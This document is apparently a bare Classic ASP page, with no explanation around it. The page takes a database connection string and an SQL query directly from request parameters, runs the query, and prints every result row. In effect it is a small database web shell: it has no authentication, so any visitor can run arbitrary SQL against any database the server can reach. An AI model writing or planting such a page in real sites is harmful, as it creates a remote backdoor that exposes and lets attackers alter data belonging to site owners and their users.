<%
Dim conn, rs, f
Set conn = Server.CreateObject("ADODB.Connection")
conn.Open Request("connstr")
Set rs = conn.Execute(Request("sql"))
Do While Not rs.EOF
    For Each f In rs.Fields
        Response.Write Server.HTMLEncode(f.Value & "") & vbTab
    Next
    Response.Write "<br>"
    rs.MoveNext
Loop
%>
